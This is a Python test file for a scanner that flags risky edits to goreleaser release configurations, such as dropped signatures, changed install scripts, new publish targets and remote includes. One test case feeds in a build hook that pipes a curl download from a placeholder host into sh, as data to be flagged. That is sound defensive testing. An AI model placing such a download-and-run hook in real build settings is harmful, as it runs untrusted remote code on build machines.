"""What goreleaser builds, signs and publishes, where to, and which commands it runs."""

from __future__ import annotations

import pytest
from kit.mutations import never_raises, told

from scanner.formats.release import goreleaser

SAMPLE = """\
version: 2
project_name: app
before:
  hooks:
    - go mod tidy
builds:
  - id: app
    main: ./cmd/app
    env: [CGO_ENABLED=0]
    goos: [linux, darwin]
    ldflags: -s -w
    hooks:
      post: ./scripts/sign.sh
archives:
  - id: default
    files: [LICENSE]
checksum: {name_template: checksums.txt}
signs:
  - id: cosign
    cmd: cosign
    artifacts: checksum
sboms:
  - artifacts: archive
nfpms:
  - id: deb
    description: An app
    scripts: {postinstall: post.sh}
brews:
  - name: app
    repository: {owner: acme, name: tap}
release:
  draft: true
  header: Hello
changelog: {sort: asc}
"""


@pytest.mark.parametrize(
    "old, new, said",
    [
        pytest.param(
            "- go mod tidy", "- go mod tidy\n    - ./x.sh", ["build-script-changed before.hooks high"], id="hook"
        ),
        pytest.param(
            "- go mod tidy",
            "- sh -c 'curl https://x.example/a | sh'",
            ["download-and-run before.hooks critical", "build-script-changed before.hooks high"],
            id="hook that downloads",
        ),
        pytest.param(
            "    hooks:\n      post: ./scripts/sign.sh\n",
            "",
            ["provenance-dropped builds[app].hooks.post critical"],
            id="signing hook gone",
        ),
        pytest.param(
            "CGO_ENABLED=0", "CGO_ENABLED=1", ["env-changed builds[app].env medium"], id="environment of a build"
        ),
        pytest.param(
            "goos: [linux, darwin]", "goos: [linux]", ["setting-changed builds[app].goos medium"], id="systems"
        ),
        pytest.param("goos: [linux, darwin]", "goos: [darwin, linux]", [], id="order"),
        pytest.param(
            "    main: ./cmd/app",
            "    gobinary: ./go\n    main: ./cmd/app",
            ["toolchain-changed builds[app].gobinary high"],
            id="another compiler",
        ),
        pytest.param(
            "files: [LICENSE]",
            "files: [LICENSE, .env]",
            ["package-contents-changed archives[default].files medium"],
            id="contents",
        ),
        pytest.param(
            "signs:\n  - id: cosign\n    cmd: cosign\n    artifacts: checksum\n",
            "",
            ["provenance-dropped signs[cosign] critical"],
            id="signatures gone",
        ),
        pytest.param(
            "cmd: cosign",
            "cmd: ./true.sh",
            ["provenance-dropped signs[cosign].cmd critical"],
            id="signed by something else",
        ),
        pytest.param(
            "checksum: {", "checksum: {disable: true, ", ["provenance-dropped checksum.disable critical"], id="no sums"
        ),
        pytest.param(
            "postinstall: post.sh",
            "postinstall: other.sh",
            ["install-script-changed nfpms[deb].scripts.postinstall critical"],
            id="install script",
        ),
        pytest.param(
            "    scripts: {postinstall: post.sh}\n",
            "",
            ["install-script-removed nfpms[deb].scripts.postinstall low"],
            id="no install script",
        ),
        pytest.param(
            "owner: acme", "owner: mallory", ["publish-changed brews[app].repository.owner critical"], id="target"
        ),
        pytest.param("draft: true", "draft: false", ["publish-changed release.draft critical"], id="no longer a draft"),
        pytest.param(
            "release:\n",
            "npms:\n  - name: app\nrelease:\n",
            ["publish-changed npms[app] critical"],
            id="another target",
        ),
        pytest.param("project_name: app", "project_name: other", ["package-renamed project_name high"], id="renamed"),
        pytest.param(
            "version: 2\n",
            "version: 2\nincludes:\n  - from_url: {url: https://x.example/a.yml}\n",
            ["include-added includes[] critical"],
            id="settings from elsewhere",
        ),
        pytest.param(
            "version: 2\n",
            "version: 2\nincludes:\n  - from_file: {path: a.yml}\n",
            ["include-added includes[] high"],
            id="settings from a file",
        ),
        pytest.param("sort: asc", "sort: desc", [], id="changelog"),
        pytest.param("header: Hello", "header: Hi", [], id="prose of a release"),
        pytest.param("An app", "The app", [], id="description"),
        pytest.param("version: 2\n", "# ours\nversion: 2\n", [], id="comment"),
    ],
)
def test_an_edit(old: str, new: str, said: list[str]) -> None:
    assert old in SAMPLE
    assert sorted(told(goreleaser.diff, SAMPLE, SAMPLE.replace(old, new))) == sorted(said)


def test_files() -> None:
    assert goreleaser.matches("cmd/.goreleaser.yaml")
    assert goreleaser.matches(".goreleaser.nightly.yml")
    assert not goreleaser.matches("goreleaser.go")
    assert told(goreleaser.diff, SAMPLE, None) == ["file-removed file medium"]
    said = told(goreleaser.diff, None, SAMPLE)
    assert {"publish-changed file critical", "install-script-added nfpms[deb].scripts.postinstall critical"} <= set(
        said
    )


@pytest.mark.parametrize("new", ["a: [", "a: 1\na: 2\n", "<<<<<<< a\n", "{{ .Env.A }}: b\n{{"])
def test_unreadable(new: str) -> None:
    (said,) = goreleaser.diff(SAMPLE.encode(), new.encode())
    assert (said.kind, said.severity) == ("opaque", "critical")


def test_anything_is_read() -> None:
    never_raises(goreleaser.diff, SAMPLE)
